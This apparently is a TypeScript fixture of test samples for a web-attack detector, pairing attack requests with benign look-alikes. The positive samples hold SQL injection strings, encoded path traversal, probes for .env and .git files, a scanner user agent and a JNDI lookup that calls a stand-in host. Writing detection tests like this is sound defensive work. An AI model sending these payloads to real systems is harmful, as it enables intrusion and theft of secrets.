import type { Activity, Samples } from '../sample.ts';
import { benignTwin, every, nearMiss, pageView, positive } from '../sample.ts';

const noon = '2026-10-05T12:00:00Z';
const visit = (user: string, page: string, statusCode = 200, at = noon): Activity => ({
  user,
  occurredAt: at,
  detail: { web: { page, statusCode } },
});
const claimed = (code: string, requests = 1) => ({
  type: 'WEB_ATTACK' as const,
  count: requests,
  details: { codes: [code], requests },
  alert: false,
});

export const samples: Samples = {
  positives: [
    positive('SQL in a parameter.', (cast) => ({
      activities: [visit(cast.user(), "/orders?id=7'%20or%20'a'='a")],
      expected: claimed('SQL_INJECTION'),
    })),
    positive('Traversal that is encoded twice.', (cast) => ({
      activities: [visit(cast.user(), '/report?file=%252e%252e%252f%252e%252e%252fkeys')],
      expected: claimed('PATH_TRAVERSAL'),
    })),
    positive('A file with secrets, found or not.', (cast) => ({
      activities: [visit(cast.user(), '/.env', 404), visit(cast.user(), '/.git/HEAD', 200)],
      expected: claimed('SECRET_FILE', 2),
    })),
    positive('A console that is not here.', (cast) => ({
      activities: [visit(cast.user(), '/phpmyadmin/', 404)],
      expected: claimed('ABSENT_CONSOLE'),
    })),
    positive('A scanner that says so, at an endpoint.', (cast) => ({
      activities: [{ user: cast.user(), userAgent: 'sqlmap/1.8', occurredAt: noon, detail: { web: { endpoint: '/api/orders' } } }],
      expected: claimed('SCANNER'),
    })),
    positive('A look-up in a header.', (cast) => ({
      activities: [{ user: cast.user(), userAgent: '${jndi:ldap://h.example/x}', occurredAt: noon, detail: { web: { page: '/' } } }],
      expected: claimed('CODE_INJECTION'),
    })),
    positive('Fifty attempts, one a minute, are one anomaly.', (cast) => ({
      activities: every({ minutes: 1 }, 50, noon).map((at, n) => visit(cast.user(), `/item?id=${n}+union+select+1`, 500, at)),
      expected: claimed('SQL_INJECTION', 50),
    })),
  ],
  nearMisses: [nearMiss('A hint: one page of a product that is not here.', 'points', (cast) => [visit(cast.user(), '/wp-login.php', 404)])],
  benignTwins: [
    benignTwin('An ordinary page.', (cast) => [pageView({ user: cast.user() }, noon)]),
    benignTwin('Somebody searches for how an attack is written.', (cast) => [visit(cast.user(), '/search?q=%27+or+1%3D1+union+select')]),
    benignTwin('An apostrophe in a name.', (cast) => [visit(cast.user(), "/people?name=O'Brien")]),
    benignTwin('The console of a product that is here.', (cast) => [visit(cast.user(), '/phpmyadmin/', 200)]),
    benignTwin('A sign-in that returns to where one was.', (cast) => [
      visit(cast.user(), '/login?next=https%3A%2F%2Fapp.example%2Fhome%3Ftab%3D1'),
    ]),
    benignTwin('A file of a repository in its viewer.', (cast) => [visit(cast.user(), '/team/app/blob/main/.env')]),
  ],
};
